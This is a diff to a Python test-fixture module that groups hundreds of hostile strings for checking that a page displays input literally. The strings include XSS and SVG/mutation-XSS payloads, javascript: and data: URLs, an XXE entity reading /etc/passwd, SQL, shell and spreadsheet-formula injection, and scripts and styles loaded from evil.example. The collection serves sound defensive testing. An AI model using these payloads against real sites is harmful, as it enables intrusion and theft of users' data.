@@ -4,7 +4,7 @@ from __future__ import annotations
 
 _EVENTS = ("onload", "onerror", "onfocus", "onclick", "onmouseover", "onanimationstart")
 
-HOSTILE: tuple[str, ...] = (
+MARKUP: tuple[str, ...] = (
     "<script>alert(1)</script>",
     "</script><script>alert(2)</script>",
     "</SCRIPT ><img src=x onerror=alert(3)>",
@@ -67,6 +67,210 @@ HOSTILE: tuple[str, ...] = (
     "\N{FAMILY}\N{EMOJI MODIFIER FITZPATRICK TYPE-4}\N{REPLACEMENT CHARACTER}",
     "=cmd|' /C calc'!A0",
     "x" * 2000,
+)  # fmt: skip
+"""The plain tricks, in every place where text could become markup."""
+
+SVG: tuple[str, ...] = (
+    "<svg onload=alert(40)>",
+    "<svg/onload=alert(41)//",
+    "<svg><script>alert(42)</script></svg>",
+    "<svg><script href=data:,alert(43) />",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(44)/>#x'/></svg>",
+    "<svg><image href=https://evil.example/a.png onerror=alert(45)>",
+    "<svg><foreignObject><iframe srcdoc='<script>alert(46)</script>'></foreignObject></svg>",
+    "<svg><set attributeName=href to=javascript:alert(47)></svg>",
+    "<svg><a><animate attributeName=href values=javascript:alert(48) /><text>go</text></a></svg>",
+    "<svg><filter><feImage href='https://evil.example/b.svg'/></filter></svg>",
+    "<svg><style>*{background:url(https://evil.example/c)}</style></svg>",
+    "<svg><title><img src=x onerror=alert(49)></title></svg>",
+    "<svg><desc><script>alert(50)</script></desc></svg>",
+    "</svg><script>alert(51)</script>",
+    "</text></g></svg><img src=x onerror=alert(52)>",
+    "<circle r=9 onmouseover=alert(53)>",
+    "<path d='M0 0' onclick=alert(54)>",
+    "<?xml-stylesheet href='https://evil.example/d.xsl'?><svg/>",
+    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
+    "url(#x);fill:url(https://evil.example/e.svg#f)",
+)
+"""Names that may stand in a chart or on a map."""
+
+MUTATING: tuple[str, ...] = (
+    "<math><mi//xlink:href='data:x,<script>alert(60)</script>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(61)>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(62)>'>",
+    "<p><svg><title><style><!--</style></title><img src=x onerror=alert(63)>-->",
+    "<table><td background=https://evil.example/g><tr><script>alert(64)</script>",
+    "<select><template><img src=x onerror=alert(65)></template></select>",
+    "<template><script>alert(66)</script></template>",
+    "<template shadowrootmode=open><script>alert(67)</script></template>",
+    "<xmp><img src='</xmp><img src=x onerror=alert(68)>'>",
+    "<plaintext><img src=x onerror=alert(69)>",
+    "<listing>&lt;img src=x onerror=alert(70)&gt;</listing>",
+    "<noembed><img title='</noembed><img src=x onerror=alert(71)>'>",
+    "<noframes></noframes><frameset onload=alert(72)>",
+    "<![CDATA[><img src=x onerror=alert(73)>]]>",
+    "<!--><img src=x onerror=alert(74)>-->",
+    "<!--!><script>alert(75)</script>",
+    "<? <script>alert(76)</script> ?>",
+    "<%= system('x') %><script>alert(77)</script>",
+    "<a href='javascript&colon;alert(78)'>go</a>",
+    "<scr<script>ipt>alert(79)</scr</script>ipt>",
+    "<img src=x onerror\t=\talert(80)>",
+    "<img/src=x/onerror=alert(81)>",
+    "<IMG SRC=`x` ONERROR=`alert(82)`>",
+    "<b/onpointerover=alert(83)//",
+    "<input autofocus onfocusin=alert(84)>",
+    "<body onpageshow=alert(85)>",
+    "<html onclick=alert(86)><head><base target=_blank>",
+    "<dialog open oncancel=alert(87)>",
+    "<p popover id=p onbeforetoggle=alert(88)><button popovertarget=p>",
+    "<bdi dir=rtl></bdi></bdi></q></a><script>alert(89)</script>",
+    "<slot onslotchange=alert(90)>",
+    "<portal src=https://evil.example/h>",
+    "<fencedframe src=https://evil.example/i>",
+    "<audio src=https://evil.example/j.ogg autoplay onplay=alert(91)>",
+    "<picture><source srcset=https://evil.example/k.png><img></picture>",
+    "<track src=https://evil.example/l.vtt>",
+    "<a ping=https://evil.example/m href=#>go</a>",
+    "<script type=module>import 'https://evil.example/n.js'</script>",
+    '<script type=importmap>{"imports":{}}</script>',
+    '<script type=speculationrules>{"prefetch":[]}</script>',
+    "<script id=data>{}</script>",
+    "<div id=app></div>",
+    "<main data-view=event><h1>Settled</h1></main>",
+    '<meta http-equiv=Content-Security-Policy content="script-src *">',
+)
+"""Markup that changes its meaning when it is read a second time, or in another place."""
+
+ADDRESSES: tuple[str, ...] = (
+    "javascript://evil.example/%0aalert(100)",
+    "java\nscript:alert(101)",
+    "java\tscript:alert(102)",
+    " javascript:alert(103)",
+    "javascript&#58;alert(104)",
+    "\\evil.example\\share",
+    "http:evil.example",
+    "http:/\\evil.example",
+    "https:\\\\evil.example",
+    "https://user:word@evil.example/",
+    "https://evil.example\\@depeche.example/",
+    "https://evil.example/?q=<script>alert(105)</script>",
+    "https://evil.example/' onmouseover='alert(106)",
+    'https://evil.example/" onclick="alert(107)',
+    "https://xn--80ak6aa92e.example/",
+    "HTTPS://EVIL.EXAMPLE/",
+    "ftp://evil.example/x",
+    "file:///etc/passwd",
+    "blob:https://evil.example/0",
+    "filesystem:https://evil.example/temporary/x",
+    "view-source:https://evil.example/",
+    "about:blank",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxMDgpPC9zY3JpcHQ+",
+    "data:image/svg+xml,<svg onload=alert(109)>",
+    "data:application/xhtml+xml,<x/>",
+    "intent://x#Intent;scheme=https;end",
+    "mailto:x@evil.example?body=<b>",
+    "tel:+000",
+    "ws://evil.example/",
+    "///evil.example",
+    "../../../../etc/passwd",
+    "..\\..\\windows\\x",
+    "C:\\x\\y.txt",
+    "#/article/x?claim=y",
+    "?token=x&next=//evil.example",
+    "%00%0d%0aSet-Cookie: a=b",
+)
+"""What could be taken for an address or a path, and must lead nowhere."""
+
+CODE: tuple[str, ...] = (
+    "');alert(120);('",
+    '";alert(121);"',
+    "`;alert(122);`",
+    "*/alert(123)/*",
+    "//\u2028alert(124)",
+    "\\x3cimg src=x onerror=alert(125)\\x3e",
+    "\\074script\\076alert(126)",
+    "#{alert(127)}",
+    "<%- alert(128) %>",
+    "[[alert(129)]]",
+    "{%raw%}{{7*7}}{%endraw%}",
+    "{7*7}{@html '<b>x</b>'}",
+    "{#if true}x{/if}",
+    "{n} {name} {voice} {day}",
+    "%s %d %n %(x)s",
+    "$& $1 $$ $`",
+    "{0.__class__.__mro__}",
+    "@{x} !important",
+    "1;DROP TABLE claims;--",
+    "' OR '1'='1",
+    "%' ESCAPE '\\",
+    "$(touch x) `touch x`",
+    "[/] [bold red]x[/] [link=https://evil.example]y[/link]",
+    "@SUM(1+1)*cmd|'/C x'!A0",
+    "+1+1",
+    "-1-1",
+)
+"""Templates, queries, formulas and ends of strings."""
+
+NAMES: tuple[str, ...] = (
+    "prototype", "__defineGetter__", "__lookupSetter__", "valueOf", "isPrototypeOf", "then",
+    "toJSON", "length", "size", "name", "undefined", "null", "NaN", "Infinity", "true", "0", "-0",
+    "1e999", "event.silent", "article.title", "frame.skip", "claim-1", "chosen", "deny", "repeat",
+)  # fmt: skip
+"""Names that mean something to a script, or to this page."""
+
+STYLE: tuple[str, ...] = (
+    "};*{display:none}",
+    "</style><style>@import url(https://evil.example/o.css)",
+    "color:red;background:url(https://evil.example/p)",
+    "expression(alert(140))",
+    "-moz-binding:url(https://evil.example/q)",
+    "@font-face{src:url(https://evil.example/r)}",
+    "x:expression/**/(alert(141))",
+    "\\00003cscript\\00003e",
+    "behavior:url(x.htc)",
+    "::highlight(chosen){color:transparent}",
+)
+"""What a style sheet could take for its own."""
+
+ENTITIES: tuple[str, ...] = (
+    "&lt", "&#x3c;", "&#0060", "&nbsp;", "&notin;", "&lt;img src=x onerror=alert(150)&gt;",
+    "&#106;&#97;vascript&#58;alert(151)", "&#x0;", "&#xD800;", "&bogus;", "&amp;lt;",
+    "&quot;&apos;",
+    "&Tab;&NewLine;", "%26lt%3B", "+ADw-script+AD4-alert(152)",
+)  # fmt: skip
+"""Signs written as entities stay as they are written."""
+
+LETTERS: tuple[str, ...] = (
+    "Тhe Vаlley Cоurier",
+    "ΤΑΡΝ Τarn",
+    "Ｔｈｅ Ｖａｌｌｅｙ",
+    "𝐓𝐚𝐫𝐧 𝕿𝖆𝖗𝖓 Ⓣⓐⓡⓝ",
+    "ﬁﬂ ŉ ǆ ẞ İı",
+    "Ta\u0308rn T\u00e4rn",
+    "Z\u0351\u036b\u0343a\u0316\u0330l\u033cg\u0319o",
+    "\u202fTarn\u00a0am\u2009Gué\u3000",
+    "جسر تارن (Tarn) 42–17",
+    "גשר טארן - <b>42</b>",
+    "塔恩橋「42」",
+    "ᠮᠣᠩᠭᠣᠯ",
+    "\U0001f1f3\U0001f1f4\U0001f3f4 \u26a0\ufe0f",
+    "\U00010330\U0001d11e\U00020000",
+    "\ufffd\ufffd\ufffd",
+    "\ue000\U000f0000",
+)
+"""Letters that look like others, join, stack or leave the basic plane."""
+
+LONG: tuple[str, ...] = (
+    "<b>" * 500,
+    "word " * 400 + "end",
+    "\N{GREEK SMALL LETTER OMEGA}" * 1500,
+    "&" * 1000,
+)
+"""Longer than any place they are shown in."""
+
+HOSTILE: tuple[str, ...] = (
+    *MARKUP, *SVG, *MUTATING, *ADDRESSES, *CODE, *NAMES, *STYLE, *ENTITIES, *LETTERS, *LONG,
 )  # fmt: skip
 """Each reads the same on the page as it is written here."""
 
